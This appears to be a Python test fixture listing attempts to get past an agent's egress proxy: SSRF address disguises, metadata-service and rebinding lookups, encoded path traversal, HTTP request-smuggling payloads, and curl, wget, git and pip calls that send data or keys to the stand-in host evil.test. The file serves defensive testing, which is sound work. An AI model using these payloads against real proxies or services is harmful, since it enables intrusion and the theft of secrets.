"""Attempts through the proxy as it is: where to, by which name, in what disguise; and requests that hide another."""

from __future__ import annotations

from tests.wall.egress import Attempt


def _plain(says: str, url: str, rule: str, host: str) -> Attempt:
    return Attempt(says, f"curl -sS -m 8 --path-as-is -g '{url}' >&2; true", rule, host, shell=True)


def _sent(says: str, raw: str, rule: str, host: str = "", *, passes: bool = False, ends: str = "") -> Attempt:
    return Attempt(says, f"talk({raw})", rule, host, passes=passes, ends=ends)


GOOD = "Host: api.good.test\\r\\n"

PLACES = (
    _plain("a name that no rule allows", "http://evil.test/public/a", "default", "evil.test"),
    _plain("a public address in place of a name", "http://93.184.216.34/public/a", "default", "93.184.216.34"),
    _plain("the address of loopback", "http://127.0.0.2/public/a", "default", "127.0.0.2"),
    _sent("loopback as a decimal number", "get('http://2130706433:8080/public/a', '2130706433:8080')", "canonical"),
    _sent("loopback in hexadecimal", "get('http://0x7f000001:8080/public/a', '0x7f000001:8080')", "canonical"),
    _sent("loopback in octal", "get('http://0177.0.0.1:8080/public/a', '0177.0.0.1:8080')", "canonical"),
    _sent("loopback with one dot", "get('http://127.1:8080/public/a', '127.1:8080')", "canonical"),
    _plain("loopback of IPv6", "http://[::1]:8080/public/a", "default", "[::1]"),
    _sent(
        "loopback as IPv4 in IPv6",
        "get('http://[::ffff:127.0.0.1]:8080/public/a', '[::ffff:127.0.0.1]:8080')",
        "canonical",
    ),
    _sent("an address with a zone", "get('http://[fe80::1%25cable]/public/a', '[fe80::1%25cable]')", "default"),
    _plain("the metadata service by its address", "http://169.254.169.254/public/meta", "default", "169.254.169.254"),
    _plain("the metadata service by a name", "http://metadata.good.test/public/meta", "address", "metadata.good.test"),
    _plain("a name that leads to loopback", "http://loopback.good.test/public/a", "address", "loopback.good.test"),
    _plain(
        "a name that leads to loopback of IPv6", "http://loopback6.good.test/public/a", "address", "loopback6.good.test"
    ),
    _plain(
        "a name that leads to the private network", "http://private.good.test/public/a", "address", "private.good.test"
    ),
    _plain("a name that leads to the router", "http://router.good.test/public/a", "address", "router.good.test"),
    _plain("a name that leads to the local link", "http://link.good.test/public/a", "address", "link.good.test"),
    _plain("a name that leads to no address", "http://zero.good.test/public/a", "address", "zero.good.test"),
    _plain("a name with IPv4 in IPv6", "http://mapped.good.test/public/a", "address", "mapped.good.test"),
    _plain("a name with loopback behind NAT64", "http://nat64.good.test/public/a", "address", "nat64.good.test"),
    _plain("a name that leads to the machine itself", "http://own.good.test/public/a", "address", "own.good.test"),
    _plain("a name with a good and a bad address", "http://mixed.good.test/public/a", "address", "mixed.good.test"),
    _plain("a name with a good address and ::1", "http://mixed6.good.test/public/a", "address", "mixed6.good.test"),
    Attempt(
        "a name that turns private between two calls",
        "talk(get('http://rebind.good.test/public/bye', 'rebind.good.test'))\n"
        "time.sleep(5.5)\nfor _ in range(2): talk(get('http://rebind.good.test/public/bye', 'rebind.good.test'))",
        "address",
        "rebind.good.test",
        passes=True,
    ),
    _plain(
        "a name that is private first and public later",
        "http://rebind-to-private.good.test/public/a",
        "address",
        "rebind-to-private.good.test",
    ),
    Attempt(
        "a name whose answer differs from query to query",
        "for _ in range(3):\n    talk(get('http://flip.good.test/public/bye', 'flip.good.test')); time.sleep(5.2)",
        "address",
        "flip.good.test",
        passes=True,
    ),
    _plain("a host of the local network", "http://printer.local/public/a", "default", "printer.local"),
    _sent("localhost on another port", "get('http://localhost.:8080/public/a', 'localhost.:8080')", "canonical"),
    _sent("a trailing dot", "get('http://evil.test./public/a', 'evil.test.')", "canonical"),
    _plain("another port of an allowed host", "http://api.good.test:8443/public/a", "default", "api.good.test"),
    _plain("two labels where a rule has one", "http://a.b.good.test/public/a", "default", "a.b.good.test"),
    _plain(
        "an allowed name as a prefix", "http://api.good.test.evil.test/public/a", "default", "api.good.test.evil.test"
    ),
    _plain("an allowed name as a suffix", "http://evilapi.good.test.evil.test/public/a", "default", ""),
    _plain("what only another agent's rule allows", "http://cdn.evil.test/public/a", "default", "cdn.evil.test"),
    _sent(
        "an allowed host as the user before another",
        "b'GET http://api.good.test@evil.test/public/a HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'",
        "canonical",
        "evil.test",
    ),
    _sent("large letters", "get('http://EVIL.test/public/a', 'EVIL.test')", "canonical"),
    _sent("https as an absolute target", "get('https://api.good.test/public/a')", "canonical"),
    _sent("file as an absolute target", "get('file:///etc/shadow', 'api.good.test')", "canonical"),
    _sent("gopher as an absolute target", "get('gopher://127.0.0.1:8080/_x', '127.0.0.1:8080')", "canonical"),
    _sent(
        "a Host header that names another host than the target",
        "get('http://api.good.test/public/a', 'evil.test')",
        "canonical",
        "api.good.test",
    ),
    _sent(
        "an allowed Host header for a target that is not",
        "get('http://evil.test/public/a', 'api.good.test')",
        "canonical",
        "evil.test",
    ),
    _sent("the gateway's own port by another name", "get('/public/a', '127.0.0.2:3128')", "default", "127.0.0.2"),
    _sent("a page of the gateway's that does not exist", "get('/admin', '127.0.0.1:3128')", "default", "gateway"),
    _sent(
        "a zero byte in the Host header",
        "b'GET /public/a HTTP/1.1\\r\\nHost: api.good.test\\0.evil.test\\r\\n\\r\\n'",
        "http",
    ),
)

# What is sent back, or sent along, and must not be of use elsewhere; the first call of each is allowed.
ECHOED = (
    Attempt(
        "a redirect that would carry the key elsewhere",
        "curl -sS -m 8 -L 'https://api.good.test/public/moved?to=http://evil.test/steal' >&2; true",
        "default",
        "evil.test",
        shell=True,
        passes=True,
    ),
    Attempt(
        "a redirect to the machine itself",
        "curl -sS -m 8 -L 'https://api.good.test/public/moved?to=http://own.good.test/public/x' >&2; true",
        "address",
        "own.good.test",
        shell=True,
        passes=True,
    ),
    *(
        Attempt(
            f"the key echoed {how}",
            f"curl -sS -m 8 -i https://api.good.test/public/echo/{how} >&2; true",
            shell=True,
            passes=True,
        )
        for how in ("body", "head", "base64", "hex", "chunks")
    ),
    Attempt(
        "a cookie that the host sets",
        "curl -sS -i -m 8 https://api.good.test/public/cookie >&2; true",
        shell=True,
        passes=True,
    ),
    Attempt(
        "a credential of the agent's own in place of the key",
        "curl -sS -m 8 https://api.good.test/public/a -H 'Authorization: Bearer MINE' -H 'Cookie: MINE' -H "
        "'Connection: authorization' >&2; true",
        shell=True,
        passes=True,
    ),
    Attempt(
        "another method in a header",
        "curl -sS -m 8 https://api.good.test/public/a -d x -H 'X-HTTP-Method-Override: DELETE' -H 'X-Method-Override: "
        "DELETE' -H 'X-HTTP-Method: DELETE' >&2; true",
        shell=True,
        passes=True,
    ),
    Attempt(
        "the sender's address in a header",
        "curl -sS -m 8 https://api.good.test/public/a -H 'X-Forwarded-For: 127.0.0.1' -H 'X-Forwarded-Host: evil.test' "
        ">&2; true",
        shell=True,
        passes=True,
    ),
)

PATHS = (
    _plain("a path that no rule allows", "http://api.good.test/admin/keys", "default", "api.good.test"),
    _plain(
        "a way up out of an allowed path", "http://api.good.test/public/../admin/keys", "canonical", "api.good.test"
    ),
    _plain("an encoded way up", "http://api.good.test/public/%2e%2e/admin/keys", "canonical", "api.good.test"),
    _plain("a half encoded way up", "http://api.good.test/public/.%2E/admin/keys", "canonical", "api.good.test"),
    _plain("a way up with an encoded slash", "http://api.good.test/public/..%2fadmin/keys", "default", "api.good.test"),
    _plain("a way up with a backslash", "http://api.good.test/public/..%5cadmin", "canonical", "api.good.test"),
    _plain(
        "a path that is encoded twice", "http://api.good.test/public/%252e%252e/admin", "canonical", "api.good.test"
    ),
    _plain("an empty segment", "http://api.good.test//admin/keys", "canonical", "api.good.test"),
    _plain("an encoded zero byte", "http://api.good.test/public/%00/../admin", "canonical", "api.good.test"),
    _sent(
        "a fragment that hides the path", "get('http://api.good.test/admin#/public/a')", "canonical", "api.good.test"
    ),
    _sent(
        "eight-bit letters in the path",
        "b'GET http://api.good.test/public/\\xc0\\xae\\xc0\\xae/admin HTTP/1.1\\r\\n" + GOOD + "\\r\\n'",
        "http",
    ),
    _plain("large letters in an allowed path", "http://api.good.test/PUBLIC/a", "default", "api.good.test"),
    Attempt(
        "a method that no rule allows",
        "curl -sS -m 8 -X DELETE http://api.good.test/public/a >&2; true",
        "default",
        "api.good.test",
        shell=True,
    ),
    _sent(
        "an allowed method in small letters",
        "get('http://api.good.test/public/a', method='get')",
        "default",
        "api.good.test",
    ),
    _sent(
        "TRACE, which shows what is put on",
        "get('http://api.good.test/public/a', method='TRACE')",
        "default",
        "api.good.test",
    ),
)

SMUGGLED = (
    _sent(
        "a second request after a length and chunks",
        "b'POST http://api.good.test/public/a HTTP/1.1\\r\\n"
        + GOOD
        + "Content-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
        "0\\r\\n\\r\\nGET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'",
        "default",
    ),
    _sent(
        "chunks in disguise",
        "b'POST http://api.good.test/public/a HTTP/1.1\\r\\n"
        + GOOD
        + "Transfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n'",
        "http",
    ),
    _sent(
        "chunks twice",
        "b'POST http://api.good.test/public/a HTTP/1.1\\r\\n"
        + GOOD
        + "Transfer-Encoding: chunked, chunked\\r\\n\\r\\n0\\r\\n\\r\\n'",
        "http",
    ),
    _sent(
        "two lengths",
        "b'GET http://api.good.test/public/a HTTP/1.1\\r\\n"
        + GOOD
        + "Content-Length: 0\\r\\nContent-Length: 44\\r\\n\\r\\n"
        "GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'",
        "http",
    ),
    _sent(
        "a length with a sign",
        "b'GET http://api.good.test/public/a HTTP/1.1\\r\\n" + GOOD + "Content-Length: +0\\r\\n\\r\\n'",
        "http",
    ),
    _sent(
        "a header folded over two lines",
        "b'GET http://api.good.test/public/a HTTP/1.1\\r\\n"
        + GOOD
        + "X-A: b\\r\\n Transfer-Encoding: chunked\\r\\nHost: evil.test\\r\\n\\r\\n'",
        "http",
    ),
    _sent(
        "a space before the colon",
        "b'GET http://api.good.test/public/a HTTP/1.1\\r\\n" + GOOD + "Transfer-Encoding : chunked\\r\\n\\r\\n'",
        "http",
    ),
    _sent("two Host headers", "b'GET /public/a HTTP/1.1\\r\\n" + GOOD + "Host: evil.test\\r\\n\\r\\n'", "http"),
    _sent("no Host header", "b'GET /public/a HTTP/1.1\\r\\n\\r\\n'", "http"),
    _sent(
        "a line break in the target",
        "b'GET http://api.good.test/public/a\\rX HTTP/1.1\\r\\n" + GOOD + "\\r\\n'",
        "http",
    ),
    _sent(
        "a size of a chunk that overflows",
        "b'POST /anthropic/v1/messages HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
        "FFFFFFFFFFFFFFFFFFFFFF\\r\\nabc'",
        "",
        passes=True,
        ends="The request broke off",
    ),
    _sent(
        "a request hidden in the body of an allowed one",
        "b'GET http://api.good.test/public/a HTTP/1.1\\r\\n" + GOOD + "Content-Length: 0\\r\\n\\r\\n"
        "GET http://evil.test/stolen HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'",
        "default",
        "evil.test",
        passes=True,
    ),
    _sent(
        "HTTP/2 without asking",
        "b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))",
        "http",
    ),
    _sent("HTTP/0.9", "b'GET http://evil.test/\\r\\n\\r\\n'", "http"),
    _sent("bytes that are no HTTP", "b'\\x05\\x01\\x00' + bytes(300)", "http"),
    _sent(
        "a header of more than the gateway reads",
        "b'GET /public/a HTTP/1.1\\r\\nHost: api.good.test\\r\\nX: ' + b'a' * 200_000",
        "http",
    ),
    _sent(
        "a WebSocket where no rule has one",
        "get('http://api.good.test/public/ws', 'api.good.test', 'Connection: Upgrade', 'Upgrade: websocket', "
        "'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13')",
        "upgrade",
        "api.good.test",
    ),
)

TURNS = (
    Attempt(
        "a call outside a turn",
        "curl -sS -m 8 http://api.good.test/public/a >&2; true",
        "turn",
        "api.good.test",
        shell=True,
        turn=False,
    ),
    Attempt(
        "a call to the model outside a turn",
        "talk(b'POST /anthropic/v1/messages HTTP/1.1\\r\\nHost: 127.0.0.1:3128\\r\\nContent-Length: 2\\r\\n\\r\\n{}')",
        "turn",
        "api.anthropic.com",
        turn=False,
    ),
    _sent(
        "another run's name in a header",
        "get('http://cdn.evil.test/public/a', 'cdn.evil.test', 'X-Nanoclaw-Group: another', "
        "'Proxy-Authorization: Basic YW5vdGhlcjp4')",
        "default",
        "cdn.evil.test",
    ),
)

CLIENTS = (
    Attempt(
        "node",
        "node -e \"const tls = require('tls'), net = require('net'); const s = net.connect(3128, '127.0.0.1', () => "
        "s.write('CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n')); s.on('data', d => "
        '{console.error(String(d)); s.destroy()})"',
        "default",
        "evil.test",
        shell=True,
    ),
    Attempt("curl", "curl -sS -m 8 https://evil.test/ >&2; true", "default", "evil.test", shell=True),
    Attempt("wget", "wget -q -T 5 -t 1 -O - https://evil.test/ >&2; true", "default", "evil.test", shell=True),
    Attempt("git", "git ls-remote https://evil.test/x.git >&2; true", "default", "evil.test", shell=True),
    Attempt(
        "git over plain HTTP", "git ls-remote http://evil.test/x.git >&2; true", "default", "evil.test", shell=True
    ),
    Attempt(
        "Python's urllib",
        "try: say(urllib.request.urlopen('https://evil.test/', timeout=5).read())\nexcept OSError as error: say(error)",
        "default",
        "evil.test",
    ),
    Attempt(
        "pip",
        "python3 -m pip --version >/dev/null 2>&1 && python3 -m pip download -q --retries 0 --no-deps --index-url "
        "https://evil.test/simple x >&2; curl -sS -m 8 https://evil.test/simple/x/ >&2; true",
        "default",
        "evil.test",
        shell=True,
    ),
)
